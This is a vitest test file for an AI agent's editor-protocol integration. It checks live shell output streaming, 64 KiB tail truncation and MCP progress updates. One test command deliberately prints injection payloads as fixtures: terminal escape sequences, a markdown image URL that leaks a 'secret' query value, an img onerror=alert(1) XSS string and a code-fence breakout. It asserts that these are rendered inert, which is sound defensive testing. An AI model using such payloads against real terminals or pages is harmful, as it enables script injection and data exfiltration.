import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import type { SessionNotification, ToolCallUpdate } from '@agentclientprotocol/sdk';
import { marked, type Token } from 'marked';
import { expect, test, vi } from 'vitest';
import { textReply, toolCallReply, toolResult } from '../../../test-support/cli-wire.js';
import { type AcpChild, startAcp } from './support/acp.js';
import { REPOSITORY } from './support/build.js';
import { useCliHarness } from './support/harness.js';

const harness = useCliHarness();

/** The file the command waits for: the test creates it only once the editor has seen the first lines. */
const GATE = 'gate';

/**
 * A command that prints a line with terminal sequences (OSC 0 sets a title, CSI 2J clears the screen), lines
 * an editor's markdown would render as an image fetching a URL, as HTML and as the end of a code fence, and a
 * plain line; then blocks until the test creates the gate, then prints its last line.
 */
const COMMAND = [
  "printf '\\033]0;owned\\007\\033[2J%s-%s\\n' hostile line",
  "printf '%s\\n' '![pixel](http://127.0.0.1:9/leak?k=secret)' '<img src=x onerror=alert(1)>' '````'",
  "printf '%s-%s\\n' first line",
  `while [ ! -e ${GATE} ]; do sleep 0.05; done`,
  "printf '%s-%s\\n' gate opened",
].join('; ');

/** The text of a call's content blocks, joined. */
function contentTextOf(update: ToolCallUpdate): string {
  return (update.content ?? [])
    .map((block) => (block.type === 'content' && block.content.type === 'text' ? block.content.text : ''))
    .join('\n');
}

/** The `tool_call_update`s of one call, in order. */
function callUpdates(updates: readonly SessionNotification[], toolCallId: string): ToolCallUpdate[] {
  return updates.flatMap(({ update }) =>
    update.sessionUpdate === 'tool_call_update' && update.toolCallId === toolCallId ? [update] : [],
  );
}

/** Every token a markdown renderer makes of `text`, nested ones included. */
function markdownTokens(text: string): Token[] {
  const all: Token[] = [];
  const visit = (tokens: readonly Token[]): void => {
    for (const token of tokens) {
      all.push(token);
      if ('tokens' in token && Array.isArray(token.tokens)) visit(token.tokens as Token[]);
    }
  };
  visit(marked.lexer(text));
  return all;
}

test('a running command’s output reaches the editor as in-progress updates, as inert text, before it ends', async () => {
  let child: AcpChild | undefined;
  try {
    harness.server.reply(
      toolCallReply({ id: 'call_sh', name: 'shell', arguments: { command: COMMAND } }),
      (request) =>
        textReply(`Ran it: ${toolResult(request, 'call_sh')?.includes('gate-opened') ? 'whole' : 'cut'}.`),
    );
    child = await startAcp({
      sandbox: harness.sandbox,
      baseURL: harness.server.baseURL,
      editor: { answer: () => 'allow_once' },
    });
    const editor = child;
    const { sessionId } = await editor.agent.request('session/new', {
      cwd: harness.sandbox.workspace,
      mcpServers: [],
    });
    const answered = editor.agent.request('session/prompt', {
      sessionId,
      prompt: [{ type: 'text', text: 'run it' }],
    });

    const liveWith = (line: string): ToolCallUpdate | undefined =>
      callUpdates(editor.updates, 'call_sh').find(
        (update) => update.status === 'in_progress' && contentTextOf(update).includes(line),
      );
    await vi.waitFor(() => expect(liveWith('first-line')).toBeDefined(), { timeout: 30_000, interval: 20 });
    const live = contentTextOf(liveWith('first-line') ?? never());
    // The command is still blocked on the gate: the line came while it ran.
    expect(live).not.toContain('gate-opened');
    // The escape sequences arrive as visible text, never as raw control characters.
    expect(live).toContain('\\e]0;owned\\a\\e[2Jhostile-line');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: no raw ESC or BEL may reach the editor.
    expect(live).not.toMatch(/[\x07\x1b]/);
    // The editor renders it as one code block: no image to fetch, no link, no HTML, whatever the output says.
    const tokens = markdownTokens(live);
    expect(tokens.filter((token) => ['image', 'link', 'html'].includes(token.type))).toEqual([]);
    const blocks = tokens.filter((token) => token.type !== 'space');
    expect(blocks.map((token) => token.type)).toEqual(['code']);
    expect(blocks[0]?.type === 'code' ? blocks[0].text : '').toContain('![pixel](http://127.0.0.1:9/leak');

    await writeFile(path.join(harness.sandbox.workspace, GATE), '');
    expect((await answered).stopReason).toBe('end_turn');
    const updates = callUpdates(editor.updates, 'call_sh');
    const final = updates.at(-1) ?? never();
    expect(final.status).toBe('completed');
    // The completed update carries the whole result, as inert as the live output; rawOutput has it exactly.
    const result = contentTextOf(final);
    expect(result).toContain('first-line');
    expect(result).toContain('gate-opened');
    expect(result).toContain('\\e]0;owned\\a\\e[2Jhostile-line');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: no raw ESC or BEL may reach the editor.
    expect(result).not.toMatch(/[\x07\x1b]/);
    expect(
      markdownTokens(result)
        .filter((token) => token.type !== 'space')
        .map((token) => token.type),
    ).toEqual(['code']);
    expect(JSON.stringify(final.rawOutput)).toContain('\\u001b]0;owned');
    expect(updates.slice(0, -1).every((update) => update.status === 'in_progress')).toBe(true);
    const [, second] = harness.server.turnRequests();
    expect(toolResult(second ?? never(), 'call_sh')).toContain('gate-opened');
  } finally {
    await child?.close();
  }
}, 60_000);

test('a command that prints more than the tail holds: each live update carries only its last 64 KiB', async () => {
  let child: AcpChild | undefined;
  try {
    // About 590 KB of numbered lines (the core stops live output at 1 MiB), then the command waits for the gate.
    const command = `seq 1 100000; while [ ! -e ${GATE} ]; do sleep 0.05; done; echo gate-opened`;
    harness.server.reply(
      toolCallReply({ id: 'call_seq', name: 'shell', arguments: { command } }),
      textReply('Counted.'),
    );
    child = await startAcp({
      sandbox: harness.sandbox,
      baseURL: harness.server.baseURL,
      args: ['--yes'],
    });
    const editor = child;
    const { sessionId } = await editor.agent.request('session/new', {
      cwd: harness.sandbox.workspace,
      mcpServers: [],
    });
    const answered = editor.agent.request('session/prompt', {
      sessionId,
      prompt: [{ type: 'text', text: 'count' }],
    });
    const lastLive = (): string =>
      contentTextOf(
        callUpdates(editor.updates, 'call_seq')
          .filter((update) => update.status === 'in_progress')
          .at(-1) ?? { toolCallId: 'none' },
      );
    await vi.waitFor(() => expect(lastLive()).toContain('\n100000\n'), { timeout: 30_000, interval: 20 });
    const live = lastLive();
    expect(live.length).toBeLessThan(64 * 1024 + 200);
    // The start is cut: the first numbers are gone, the tail is whole.
    expect(live).not.toMatch(/^`+\n1\n2\n/);
    expect(live).toContain('\n99999\n100000\n');
    expect(live).not.toContain('gate-opened');

    await writeFile(path.join(harness.sandbox.workspace, GATE), '');
    expect((await answered).stopReason).toBe('end_turn');
    expect(callUpdates(editor.updates, 'call_seq').at(-1)?.status).toBe('completed');
  } finally {
    await child?.close();
  }
}, 60_000);

test('an MCP tool’s progress reaches the editor as its live output while it runs', async () => {
  let child: AcpChild | undefined;
  try {
    const fixture = path.join(REPOSITORY, 'packages/mcp/test/fixtures/progress-server.mjs');
    await mkdir(harness.sandbox.home, { recursive: true });
    await writeFile(
      path.join(harness.sandbox.home, 'config.json'),
      JSON.stringify({ mcpServers: { prog: { command: process.execPath, args: [fixture] } } }),
    );
    const gate = path.join(harness.sandbox.workspace, GATE);
    harness.server.reply(
      toolCallReply({ id: 'call_p', name: 'prog__report', arguments: { gate } }),
      textReply('Reported.'),
    );
    child = await startAcp({ sandbox: harness.sandbox, baseURL: harness.server.baseURL });
    const editor = child;
    const { sessionId } = await editor.agent.request('session/new', {
      cwd: harness.sandbox.workspace,
      mcpServers: [],
    });
    const answered = editor.agent.request('session/prompt', {
      sessionId,
      prompt: [{ type: 'text', text: 'report' }],
    });
    const live = (): string[] =>
      callUpdates(editor.updates, 'call_p')
        .filter((update) => update.status === 'in_progress')
        .map(contentTextOf);
    await vi.waitFor(() => expect(live().join('')).toContain('step 1 of 3'), {
      timeout: 30_000,
      interval: 20,
    });
    // The tool is still waiting for the gate: its later progress has not come.
    expect(live().join('')).not.toContain('2/3');

    await writeFile(gate, '');
    expect((await answered).stopReason).toBe('end_turn');
    expect(callUpdates(editor.updates, 'call_p').at(-1)?.status).toBe('completed');
  } finally {
    await child?.close();
  }
}, 60_000);

function never(): never {
  throw new Error('an expected update or request is missing');
}
